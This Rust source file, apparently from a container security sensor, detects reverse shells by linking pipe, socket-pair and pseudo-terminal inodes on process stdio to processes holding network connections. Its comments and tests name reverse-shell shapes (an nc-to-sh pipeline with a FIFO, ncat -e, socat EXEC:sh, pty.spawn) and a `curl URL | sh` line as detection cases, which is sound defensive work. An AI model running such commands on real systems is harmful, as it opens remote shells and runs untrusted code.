//! Processes relayed to the network through pipes. A reverse shell needs no socket on its own
//! stdio: a pipeline (`nc HOST PORT < f | sh -i > f 2>&1`), a `mkfifo` loop, or a tool that
//! connects a program through pipes (ncat's `-e`, socat) hands its input and output to
//! another process that holds the connection.
//!
//! The kernel reports the pipe or FIFO inode on each of fds 0-2 at exec (both ends of a pipe
//! share it). This index joins the ends within a container: a process whose stdout or stderr
//! reaches, through one pipe, the stdin of a process with a network connection, while its own
//! stdin is a pipe or FIFO too, is relayed ([`Via::Pipeline`]). Joined when the second of the
//! two facts arrives (the exec or the connection, in either order), once per process.
//!
//! A relaying tool keeps its ends of the pipes on fds above 2, which the kernel does not
//! report: a process whose stdin and stdout are pipes no other process has on its stdio, and
//! whose parent holds a connection, is relayed by its parent ([`Via::Parent`]). The same holds
//! for the other channels a relay can give a program: one end of a Unix socket pair
//! ([`Via::Socketpair`], socat's `EXEC:`) or the terminal side of a pseudo-terminal whose
//! other side the parent holds ([`Via::Pty`], `pty.spawn`, socat's `pty`, `script`). CGI
//! servers, sshd and `docker exec -t` running commands look the same; the rules tell them
//! apart. Only pipes join processes into a pipeline: a terminal or a socket shared by a
//! shell and its children says nothing about where the output goes.

use std::collections::HashMap;

use sensor_proto::{self as pb, event::Body};

use super::Enricher;
use crate::types::{BootNs, CgroupId, Pid};

/// One end of a pipe on a process's stdio: the process and the fd (0-2).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct End {
    pid: Pid,
    fd: u8,
}

/// What one of a process's fds 0-2 is, when it is a channel a relay can use.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub enum Channel {
    /// A pipe or FIFO.
    #[default]
    Pipe,
    /// A Unix socket (one end of a pair).
    Socket,
    /// A pseudo-terminal's terminal side.
    Pty,
}

/// A channel within a container, by kind and inode (inode numbers of one filesystem do not
/// collide within one cgroup in practice; across containers they may).
type PipeKey = (CgroupId, Channel, u64);

/// How a relayed process's output reaches the relay.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Via {
    /// Through a pipe or FIFO on the relay's stdin (a pipeline, a mkfifo loop).
    Pipeline,
    /// Through pipes only its parent, the relay, holds (a tool's exec mode).
    Parent,
    /// Through a Unix socket pair whose other end its parent, the relay, holds.
    Socketpair,
    /// Through a pseudo-terminal whose other side its parent, the relay, holds.
    Pty,
}

impl Via {
    pub fn name(self) -> &'static str {
        match self {
            Via::Pipeline => "pipeline",
            Via::Parent => "parent",
            Via::Socketpair => "socketpair",
            Via::Pty => "pty",
        }
    }
}

/// Which process's fds lead to which other process.
#[derive(Debug, PartialEq, Eq)]
pub struct Relayed {
    /// The relayed process (its stdout or stderr goes to `relay`).
    pub pid: Pid,
    /// Its fds (1, 2) that reach the relay.
    pub fds: Vec<i32>,
    /// The process holding the connection.
    pub relay: Pid,
    pub via: Via,
}

/// A process with pipes on its stdio.
struct Piped {
    cgroup: CgroupId,
    pipes: [u64; 3],
    kinds: [Channel; 3],
    parent: Pid,
}

/// Pipes on the stdio of live processes, by inode, and each process's own; the piped
/// processes by parent, so that a connection looks at its own process's children only.
#[derive(Default)]
pub struct PipeIndex {
    ends: HashMap<PipeKey, Vec<End>>,
    by_pid: HashMap<Pid, Piped>,
    children: HashMap<Pid, Vec<Pid>>,
}

impl PipeIndex {
    /// `pid` (child of `parent`) exec'd with these channel inodes on fds 0-2 (0: none), of
    /// these kinds; replaces what it had.
    pub fn set(
        &mut self,
        pid: Pid,
        parent: Pid,
        cgroup: CgroupId,
        pipes: [u64; 3],
        kinds: [Channel; 3],
    ) {
        self.remove(pid);
        if pipes.iter().all(|&p| p == 0) {
            return;
        }
        for (fd, &ino) in pipes.iter().enumerate() {
            if ino != 0 {
                let end = End { pid, fd: fd as u8 };
                self.ends
                    .entry((cgroup, kinds[fd], ino))
                    .or_default()
                    .push(end);
            }
        }
        self.children.entry(parent).or_default().push(pid);
        let piped = Piped {
            cgroup,
            pipes,
            kinds,
            parent,
        };
        self.by_pid.insert(pid, piped);
    }

    /// `pid` exited.
    pub fn remove(&mut self, pid: Pid) {
        let Some(Piped {
            cgroup,
            pipes,
            kinds,
            parent,
        }) = self.by_pid.remove(&pid)
        else {
            return;
        };
        if let Some(siblings) = self.children.get_mut(&parent) {
            siblings.retain(|&c| c != pid);
            if siblings.is_empty() {
                self.children.remove(&parent);
            }
        }
        for (fd, ino) in pipes.into_iter().enumerate().filter(|&(_, i)| i != 0) {
            let key = (cgroup, kinds[fd], ino);
            if let Some(ends) = self.ends.get_mut(&key) {
                ends.retain(|e| e.pid != pid);
                if ends.is_empty() {
                    self.ends.remove(&key);
                }
            }
        }
    }

    /// Processes whose stdio pipes are tracked.
    #[cfg(test)]
    fn len(&self) -> usize {
        self.by_pid.len()
    }

    /// The index's size: it tracks processes of the process table only, whose bound it shares
    /// (an entry leaves with its process, however that leaves).
    pub fn health(&self) -> sensor_proto::TableHealth {
        sensor_proto::TableHealth {
            table: "stdio_pipes".into(),
            entries: self.by_pid.len() as u64,
            capacity: super::process_table::MAX_PROCESSES as u64,
            ..Default::default()
        }
    }

    /// `pid` as the relayed side: its stdin is a pipe and its stdout or stderr reaches the
    /// stdin of a process `connected` says holds a connection, or only its connected parent
    /// holds the other ends.
    pub fn relayed_by(&self, pid: Pid, connected: impl Fn(Pid) -> bool) -> Option<Relayed> {
        let Piped {
            cgroup,
            pipes,
            kinds,
            parent,
        } = self.by_pid.get(&pid)?;
        let parent = *parent;
        if pipes[0] == 0 {
            return None;
        }
        let private = |fd: usize| {
            self.ends
                .get(&(*cgroup, kinds[fd], pipes[fd]))
                .is_none_or(|ends| ends.iter().all(|e| e.pid == pid))
        };
        if pipes[1] != 0 && kinds[0] == kinds[1] && private(0) && private(1) && connected(parent) {
            return Some(Relayed {
                pid,
                fds: [1, 2]
                    .into_iter()
                    .filter(|&fd| pipes[fd] == pipes[1])
                    .map(|fd| fd as i32)
                    .collect(),
                relay: parent,
                via: match kinds[0] {
                    Channel::Pipe => Via::Parent,
                    Channel::Socket => Via::Socketpair,
                    Channel::Pty => Via::Pty,
                },
            });
        }
        // A pipeline: pipes only.
        if kinds[0] != Channel::Pipe {
            return None;
        }
        let mut found: Option<Relayed> = None;
        for fd in [1u8, 2] {
            let ino = pipes[fd as usize];
            if ino == 0 || kinds[fd as usize] != Channel::Pipe {
                continue;
            }
            let reader = self
                .ends
                .get(&(*cgroup, Channel::Pipe, ino))
                .and_then(|ends| {
                    ends.iter()
                        .find(|e| e.pid != pid && e.fd == 0 && connected(e.pid))
                });
            if let Some(reader) = reader {
                let r = found.get_or_insert(Relayed {
                    pid,
                    fds: Vec::new(),
                    relay: reader.pid,
                    via: Via::Pipeline,
                });
                r.fds.push(fd as i32);
            }
        }
        found
    }

    /// `relay` just got a connection: the processes it relays, through a pipeline (whose
    /// stdout or stderr reaches its stdin through a pipe, and whose stdin is a pipe) or as
    /// their parent. A relaying parent connects before it starts the child, but the two facts
    /// come from different rings, so either may arrive first.
    pub fn relayed_through(&self, relay: Pid) -> Vec<Relayed> {
        let connected = |p: Pid| p == relay;
        let mut out: Vec<Relayed> = self
            .children
            .get(&relay)
            .into_iter()
            .flatten()
            .filter_map(|&child| self.relayed_by(child, connected))
            .collect();
        if let Some(Piped {
            cgroup,
            pipes,
            kinds,
            ..
        }) = self.by_pid.get(&relay)
            && pipes[0] != 0
            && kinds[0] == Channel::Pipe
            && let Some(ends) = self.ends.get(&(*cgroup, Channel::Pipe, pipes[0]))
        {
            let mut writers: Vec<Pid> = ends
                .iter()
                .filter(|e| e.pid != relay && e.fd != 0)
                .map(|e| e.pid)
                .filter(|p| !out.iter().any(|r| r.pid == *p))
                .collect();
            writers.sort();
            writers.dedup();
            out.extend(
                writers
                    .into_iter()
                    .filter_map(|p| self.relayed_by(p, connected)),
            );
        }
        out
    }
}

impl Enricher {
    /// After `pid` exec'd: relayed by a process that already holds a connection?
    pub(super) fn relay_at_exec(&mut self, pid: Pid, at: BootNs, out: &mut Vec<pb::Event>) {
        let procs = &self.procs;
        let connected = |p: Pid| procs.get(p).is_some_and(|i| i.connected.is_some());
        if let Some(r) = self.pipes.relayed_by(pid, connected) {
            self.relay_event(r, at, out);
        }
    }

    /// After `pid` connected to or accepted `peer`: the processes it relays through pipes.
    pub(super) fn relay_at_connection(
        &mut self,
        pid: Pid,
        peer: pb::Endpoint,
        at: BootNs,
        out: &mut Vec<pb::Event>,
    ) {
        let Some(info) = self.procs.get_mut(pid) else {
            return;
        };
        info.connected = Some(peer);
        for r in self.pipes.relayed_through(pid) {
            self.relay_event(r, at, out);
        }
    }

    /// One `stdio_relay` event per relayed process, about that process.
    fn relay_event(&mut self, r: Relayed, at: BootNs, out: &mut Vec<pb::Event>) {
        let Some(relay) = self.procs.get(r.relay).cloned() else {
            return;
        };
        let Some(info) = self.procs.get_mut(r.pid).filter(|i| !i.relayed) else {
            return;
        };
        info.relayed = true;
        let info = info.clone();
        let body = Body::StdioRelay(pb::StdioRelay {
            via: r.via.name().into(),
            fds: r.fds,
            relay_pid: relay.pid.0,
            relay_exe: relay.exe,
            relay_comm: relay.comm,
            peer: relay.connected,
        });
        self.process_event(&info, info.pid.0, at, body, out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const C: CgroupId = CgroupId(7);
    const PIPES: [Channel; 3] = [Channel::Pipe; 3];

    /// `cat f | sh -i 2>&1 | nc HOST PORT > f`: cat's stdout is pipe 10, sh reads 10 and
    /// writes 11 on fds 1 and 2, nc reads 11 and writes the FIFO 12.
    fn pipeline() -> PipeIndex {
        let mut index = PipeIndex::default();
        index.set(Pid(1), Pid(9), C, [0, 10, 0], PIPES);
        index.set(Pid(2), Pid(9), C, [10, 11, 11], PIPES);
        index.set(Pid(3), Pid(9), C, [11, 12, 0], PIPES);
        index
    }

    #[test]
    fn a_shell_whose_output_reaches_a_connected_process_is_relayed_either_way_round() {
        let index = pipeline();
        // The connection came first: found at the shell's exec.
        let at_exec = index.relayed_by(Pid(2), |p| p == Pid(3));
        let want = Relayed {
            pid: Pid(2),
            fds: vec![1, 2],
            relay: Pid(3),
            via: Via::Pipeline,
        };
        assert_eq!(at_exec.as_ref(), Some(&want));
        // The exec came first: found at nc's connection.
        assert_eq!(index.relayed_through(Pid(3)), [want]);
        // cat is upstream of the shell, not a relay of its output.
        assert!(index.relayed_through(Pid(1)).is_empty());
    }

    #[test]
    fn no_relay_without_a_connection_a_piped_stdin_or_in_another_container() {
        let index = pipeline();
        assert_eq!(index.relayed_by(Pid(2), |_| false), None);
        // `curl URL | sh`: the shell's input comes from the network, its output does not go
        // there.
        let mut curl_sh = PipeIndex::default();
        curl_sh.set(Pid(1), Pid(9), C, [0, 20, 0], PIPES);
        curl_sh.set(Pid(2), Pid(9), C, [20, 0, 0], PIPES);
        assert!(curl_sh.relayed_through(Pid(1)).is_empty());
        assert_eq!(curl_sh.relayed_by(Pid(2), |p| p == Pid(1)), None);
        // `sh script | nc logs 514`: output to the network, but stdin is no pipe.
        let mut logs = PipeIndex::default();
        logs.set(Pid(1), Pid(9), C, [0, 30, 0], PIPES);
        logs.set(Pid(2), Pid(9), C, [30, 0, 0], PIPES);
        assert!(logs.relayed_through(Pid(2)).is_empty());
        // The same inode in another container is another pipe.
        let mut other = pipeline();
        other.set(Pid(3), Pid(9), CgroupId(8), [11, 12, 0], PIPES);
        assert_eq!(other.relayed_by(Pid(2), |p| p == Pid(3)), None);
    }

    #[test]
    fn a_shell_on_pipes_only_its_connected_parent_holds_is_relayed_by_the_parent() {
        // ncat -e: the parent connects, then runs the shell on two pipes of its own.
        let mut index = PipeIndex::default();
        index.set(Pid(2), Pid(1), C, [40, 41, 41], PIPES);
        let r = index.relayed_by(Pid(2), |p| p == Pid(1)).unwrap();
        assert_eq!((r.relay, r.via, r.fds), (Pid(1), Via::Parent, vec![1, 2]));
        assert_eq!(index.relayed_by(Pid(2), |_| false), None);
        // The connection reported after the child's exec finds it too.
        let found = index.relayed_through(Pid(1));
        assert_eq!(found.len(), 1, "{found:?}");
        // A pipe another process has on its stdio is not the parent's alone.
        index.set(Pid(3), Pid(9), C, [0, 40, 0], PIPES);
        assert_eq!(index.relayed_by(Pid(2), |p| p == Pid(1)), None);
    }

    #[test]
    fn a_socket_pair_or_a_pty_the_connected_parent_holds_is_a_relay_a_shared_tty_no_pipeline() {
        // socat TCP:... EXEC:sh: the shell's stdio is one end of a socket pair.
        let mut index = PipeIndex::default();
        index.set(Pid(2), Pid(1), C, [50, 50, 50], [Channel::Socket; 3]);
        let r = index.relayed_by(Pid(2), |p| p == Pid(1)).unwrap();
        assert_eq!((r.via, r.fds), (Via::Socketpair, vec![1, 2]));
        // pty.spawn: the shell's stdio is a terminal whose other side the parent holds.
        index.set(Pid(4), Pid(3), C, [60, 60, 60], [Channel::Pty; 3]);
        let r = index.relayed_by(Pid(4), |p| p == Pid(3)).unwrap();
        assert_eq!(r.via, Via::Pty);
        assert_eq!(index.relayed_through(Pid(3)).len(), 1);
        // `docker exec -it sh`, then `nc HOST 80` from it: both on one terminal, the shell's
        // output goes to the terminal, not to nc. No pipeline, and the terminal is not private.
        let mut tty = PipeIndex::default();
        tty.set(Pid(10), Pid(9), C, [70, 70, 70], [Channel::Pty; 3]);
        tty.set(Pid(11), Pid(10), C, [70, 70, 70], [Channel::Pty; 3]);
        assert_eq!(tty.relayed_by(Pid(10), |p| p == Pid(11)), None);
        assert!(tty.relayed_through(Pid(11)).is_empty());
        // A pipe and a socket with the same inode number are different channels.
        let mut mixed = PipeIndex::default();
        mixed.set(Pid(2), Pid(1), C, [80, 81, 81], PIPES);
        mixed.set(Pid(3), Pid(9), C, [0, 80, 0], [Channel::Socket; 3]);
        assert!(mixed.relayed_by(Pid(2), |p| p == Pid(1)).is_some());
    }

    #[test]
    fn exits_and_re_execs_forget_the_old_ends() {
        let mut index = pipeline();
        index.remove(Pid(3));
        assert_eq!(index.relayed_by(Pid(2), |p| p == Pid(3)), None);
        index.set(Pid(2), Pid(9), C, [0, 0, 0], PIPES);
        assert_eq!(index.len(), 1);
        index.remove(Pid(1));
        assert_eq!(index.len(), 0);
        assert!(index.ends.is_empty());
        assert!(index.children.is_empty());
    }
}
